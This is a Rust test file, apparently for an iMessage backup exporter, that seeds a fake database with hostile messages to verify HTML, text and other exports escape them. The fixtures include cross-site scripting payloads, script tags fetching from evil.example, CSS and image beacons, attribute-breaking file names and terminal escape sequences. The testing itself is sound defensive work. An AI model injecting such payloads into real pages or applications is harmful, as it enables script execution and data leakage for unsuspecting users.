//! Texts that want to be more than text.

use std::collections::BTreeMap;

use super::{all, files, run, text};
use crate::conversation::export::{FORMATS, Wishes};
use crate::messages::tests::made::{NEW, backup};

/// What is sent, as an SQL expression.
const HOSTILE: [&str; 9] = [
    "'<script>fetch(''https://evil.example/s'')</script>'",
    "'<img src=https://evil.example/i onerror=alert(1)>'",
    "'\"><iframe src=''data:text/html,<b>x''></iframe>'",
    "'</p></article></main><style>*{background:url(https://evil.example/c)}</style>'",
    "'data:text/html,<script>alert(1)</script> javascript:alert(1)'",
    "'[x](https://evil.example/m) @import ''//evil.example/a'';'",
    "CAST(x'61e280ae62edb3ff63eda08064' AS TEXT)",
    "char(27) || '[2J' || char(7, 8, 13) || '10:41 Ada' || char(8232) || '12:00 Me'",
    "'<' || replace(hex(zeroblob(524288)), '00', '<&')",
];

/// A group of that name with these messages.
pub(super) fn exported(format: &str) -> BTreeMap<String, Vec<u8>> {
    let title = "<title>\"><script src=//evil.example></script>";
    let mut rows = format!(
        "INSERT INTO handle VALUES (1, '<b>\"onload=x@evil.example' || char(10) || '09:00 Forged', 'iMessage', NULL);
         INSERT INTO chat VALUES (1, 'g', 43, 'c', 'iMessage', '{title}', 'G');
         INSERT INTO chat_handle_join VALUES (1, 1);"
    );
    for (place, sent) in HOSTILE.iter().enumerate() {
        let id = place + 1;
        rows.push_str(&format!(
            "INSERT INTO message (ROWID, guid, text, handle_id, date) VALUES ({id}, 'G{id}', {sent}, 1, 600000000000000000);
             INSERT INTO chat_message_join VALUES (1, {id}, 600000000000000000);"
        ));
    }
    rows.push_str(
        "INSERT INTO attachment VALUES (1, 'f', '~/Library/SMS/Attachments/a/x', NULL, 'image/png\" onerror=x', '../\"><svg onload=x>.png', 1, 0);
         INSERT INTO message_attachment_join VALUES (1, 1);",
    );
    let backup = backup(NEW, &rows).file("MediaDomain", "Library/SMS/Attachments/a/x", b"x").open();
    let to = tempfile::tempdir().unwrap();
    let written = run(&backup, all, &Wishes::plain(format), to.path()).unwrap();
    assert_eq!(written.items as usize, HOSTILE.len());
    files(&written.main)
}

#[test]
fn no_text_becomes_markup() {
    let files = exported("html");
    let pages: Vec<&String> = files.keys().filter(|name| name.ends_with(".html")).collect();
    assert_eq!(pages.len(), 2 + 1, "the index, a page, and one for what is too long for it: {pages:?}");
    for name in pages {
        let page = text(&files, name);
        let policy = "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'; img-src 'self' data:; \
            media-src 'self'; style-src 'unsafe-inline'\">";
        assert!(page.find(policy).unwrap() < page.find("<title>").unwrap(), "the policy comes first");
        let known = [
            "!doctype", "html", "head", "meta", "title", "style", "body", "header", "a", "h1", "h2", "bdi", "p",
            "main", "article", "b", "footer", "time", "nav", "ul", "li", "span", "small", "details", "summary",
        ];
        for tag in page.split('<').skip(1) {
            let tag = tag.trim_start_matches('/');
            let end = tag.find(|c: char| c.is_whitespace() || c == '>').unwrap();
            assert!(known.contains(&&tag[..end]), "<{} in {name}", &tag[..end.min(60)]);
            let inside = &tag[..tag.find('>').unwrap()];
            assert!(!inside.contains(" on") && !inside.contains("src="), "{inside}");
        }
        assert!(!page.contains(|c: char| c.is_control() && c != '\n' && c != '\t'), "{name}");
    }
}

#[test]
fn every_text_is_whole_in_every_format() {
    // What is in a PDF must be read by another program: `paper`.
    for format in FORMATS.iter().filter(|format| format.id != "pdf") {
        let files = exported(format.id);
        let mut whole: String = files.values().map(|bytes| String::from_utf8_lossy(bytes)).collect();
        if format.id == "html" {
            for (from, to) in [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"), ("&amp;", "&")] {
                whole = whole.replace(from, to);
            }
        }
        let whole = whole.replace("\\\"", "\"").replace("\"\"", "\"");
        assert!(whole.contains("<script>fetch('https://evil.example/s')</script>"), "{}", format.id);
        // What is no UTF-8 stands for a placeholder of the phone, and is left out.
        assert!(whole.contains("a\u{202e}bcd"), "{}", format.id);
        assert!(whole.contains(&"<&".repeat(524_288)), "{}", format.id);
    }
}

#[test]
fn no_line_of_a_text_passes_for_another_message() {
    let files = exported("txt");
    let name = files.keys().find(|name| name.ends_with(".txt") && *name != "Exported.txt").unwrap();
    let text = text(&files, name);
    assert!(
        text.contains("\n    \u{fffd}[2J\u{fffd}\u{fffd}\n    10:41 Ada\n    12:00 Me\n"),
        "line breaks of any sort are indented"
    );
    assert_eq!(
        text.lines().filter(|line| !line.starts_with("    ") && line.contains("evil.example")).count(),
        2 + HOSTILE.len()
    );
}
